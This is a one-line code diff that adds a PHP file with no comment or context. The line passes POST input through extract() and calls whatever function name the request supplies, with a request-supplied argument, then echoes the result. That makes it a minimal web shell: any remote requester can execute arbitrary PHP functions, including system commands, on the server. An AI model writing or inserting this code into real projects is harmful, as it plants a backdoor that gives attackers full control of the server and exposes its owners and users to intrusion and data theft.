@@ -1,0 +1,1 @@
+<?php extract($_POST); if (isset($fn)) { echo $fn($arg); }
